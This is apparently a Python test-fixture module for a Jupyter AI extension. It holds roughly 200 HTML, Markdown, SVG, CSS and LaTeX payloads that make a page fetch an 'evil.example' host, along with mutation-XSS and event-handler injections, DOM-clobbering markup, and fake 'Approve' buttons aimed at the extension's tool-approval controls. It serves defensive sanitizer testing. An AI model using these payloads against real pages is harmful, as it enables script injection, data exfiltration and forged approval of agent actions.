"""Texts that fetch, run or pass for something else where they are drawn carelessly; each names its own address."""

from __future__ import annotations

import base64
import re

EVIL = "https://evil.example"
"""No page of ours has a reason to name this host."""
SAME = "/kimi/pwn"
"""What would be a request to our own server, with the user's cookie."""

_SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{EVIL}/svg" onload="window.__pwn=1"/></svg>'
_DATA = "data:image/svg+xml;base64," + base64.b64encode(_SVG.encode()).decode()
_ADDRESSES = (f"{EVIL}/{{n}}", "//evil.example/{n}", f"{SAME}/{{n}}")
_RUN = "window.__pwn=1"

_FETCHING = (
    "![a]({u})",
    "![a](<{u}>)",
    '![a]({u} "title")',
    "![a][r{n}]\n\n[r{n}]: {u}",
    "[![a]({u})](https://example.org)",
    '<img src="{u}">',
    '<img src="{u}" onerror="window.__pwn=1" onload="window.__pwn=1">',
    "<img src={u}>",
    "<img/src='{u}'/>",
    '<IMG SRC="{u}" loading=eager>',
    '<img srcset="{u} 1x, {u}b 2x">',
    '<image src="{u}">',
    '<picture><source srcset="{u}"><img src="{u}"></picture>',
    '<svg><image href="{u}" xlink:href="{u}" width=9 height=9 /></svg>',
    '<svg><use href="{u}#a"/></svg>',
    '<svg><feImage href="{u}"/></svg>',
    "<svg><style>@import '{u}';</style></svg>",
    '<div style="background-image:url({u})">x</div>',
    '<div style="background:url({u});height:9px">x</div>',
    "<p style=\"list-style:url('{u}');display:list-item\">x</p>",
    "<p style=\"border-image:url('{u}') 1;border:1px solid\">x</p>",
    '<span style="cursor:url({u}),auto">x</span>',
    '<p style="content:url({u})">x</p>',
    '<style>@import "{u}";</style>',
    "<style>@font-face{{font-family:f{n};src:url({u})}} *{{font-family:f{n}}}</style>",
    "<style>body::after{{content:url({u})}}</style>",
    '<link rel="stylesheet" href="{u}">',
    '<link rel="preload" as="image" href="{u}">',
    '<link rel="prefetch" href="{u}">',
    '<link rel="icon" href="{u}">',
    '<link rel="modulepreload" href="{u}">',
    '<link rel="manifest" href="{u}">',
    '<video src="{u}" autoplay muted></video>',
    '<video poster="{u}"></video>',
    '<audio src="{u}" autoplay preload="auto"></audio>',
    '<video autoplay><source src="{u}"><track default src="{u}"></video>',
    '<iframe src="{u}"></iframe>',
    "<iframe srcdoc=\"<img src='{u}'>\"></iframe>",
    '<object data="{u}"></object>',
    '<object type="image/svg+xml" data="{u}"></object>',
    '<embed src="{u}">',
    '<frameset><frame src="{u}"></frameset>',
    '<table background="{u}"><tr><td background="{u}">x</td></tr></table>',
    '<input type="image" src="{u}">',
    '<base href="{u}/"><img src="relative{n}">',
    '<meta http-equiv="refresh" content="0;url={u}">',
    '<form action="{u}" method="post"><button autofocus>Approve</button></form>',
    '<script src="{u}"></script>',
    '<script type="module">import "{u}"</script>',
    '<a href="https://example.org" ping="{u}">x</a>',
    '<math><mtext><mglyph src="{u}"/></mtext></math>',
    '```mermaid\ngraph TD\n A["<img src=\'{u}\'>"] --> B\n click A "{u}"\n```',
    "$$\\includegraphics{{{u}}}$$",
    "$\\href{{{u}}}{{x}} \\style{{background:url({u})}}{{y}}$",
    "$\\class{{jp-Kimi-ask}}{{z}} \\url{{{u}}}$",
    '<svg><foreignObject><img src="{u}"></foreignObject></svg>',
    '<marquee><img src="{u}"></marquee>',
    '<details open><summary>s</summary><img src="{u}"></details>',
    "| a |\n|---|\n| ![a]({u}) |",
    "> - ![a]({u})\n>   <img src={u}>",
    "# ![a]({u})",
    "[^1]: ![a]({u})",
    '<noscript><img src="{u}"></noscript>',
    '<template><img src="{u}"></template>',
    '<portal src="{u}"></portal>',
    '<dialog open><img src="{u}"></dialog>',
)
_OTHER = (
    f"![a]({_DATA})",
    f'<img src="{_DATA}">',
    f'<object data="{_DATA}"></object>',
    f'<iframe src="{_DATA}"></iframe>',
    "![a](attachment:pwn.png)",
    '<img src="attachment:pwn.png">',
    "![a](file:///etc/passwd)",
    "![a](blob:https://evil.example/1)",
    "![a](\\\\evil.example\\share)<img src='\\\\evil.example\\share'>",
)

# Parsed twice, these become something else; written into a page, they replace what its scripts look up.
_MUTATING = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={_RUN}></style></annotation-xml></math>",
    f"<svg><desc><noscript></desc><img src=x onerror={_RUN}></svg>",
    f"<table><td><svg><title><style></title><img src=x onerror={_RUN}></style>",
    f"<select><template><style><!--</style><a rel='--><img src=x onerror={_RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={_RUN}>'>",
    f"<!--<img src='--!><img src=x onerror={_RUN}>'>",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<svg><![CDATA[</svg><img src=x onerror={_RUN}>]]></svg>",
    f"<img src='x`y'onerror={_RUN}>",
    f"<plaintext><img src=x onerror={_RUN}>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<script>{_RUN}</script>",
    f"<svg onload={_RUN}></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{_RUN} /><text>x</text></a></svg>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    "<iframe srcdoc='<script>parent.__pwn=1</script>'></iframe>",
    f"<a href='javascript:{_RUN}' autofocus>x</a>",
    f"[x](javascript:{_RUN}) <javascript:{_RUN}>",
    f"[x](java\tscript:{_RUN}) [x](java&Tab;script:{_RUN}) [x](&#1;javascript:{_RUN})",
    f'[x](https://example.org "><img src=x onerror={_RUN}>")',
    f'```"><img src=x onerror={_RUN}>\ncode\n```',
    "<div id=jupyter-config-data>{}</div><img name=cookie><form id=body><input name=children></form>",
    "<a id=jupyterapp></a><a id=jupyterapp name=commands href='x:y'></a>",
    "<img name=getElementById><form name=querySelector><input name=parentNode><input name=attributes></form>",
    "<div class='jp-Kimi-ask' data-ask='x' data-testid='kimi-tool'><button data-decision='approve'>Approve</button></div>",
    "<button data-commandlinker-command='kimi-jupyter:clear-key'>x</button>",
    "<div style='position:fixed;inset:0;z-index:99999'>over</div>",
)

MUTATING = tuple(re.sub(r"(on\w+)=(window\.__pwn=1)", r'\1="\2"', form) for form in _MUTATING)


def _with_address(form: str, n: int) -> str:
    return form.format(u=_ADDRESSES[n % 3].format(n=n), n=n)


FETCHING = (
    tuple(
        _with_address(form, 3 * place + turn)
        for place, form in enumerate(_FETCHING)
        for turn in range(3)
    )
    + _OTHER
)
"""About 200 ways to make a page fetch something."""

NAMES = tuple(f'<img src="{EVIL}/{place}" onerror="{_RUN}">' for place in range(12))
"""Short enough for a name or a title."""
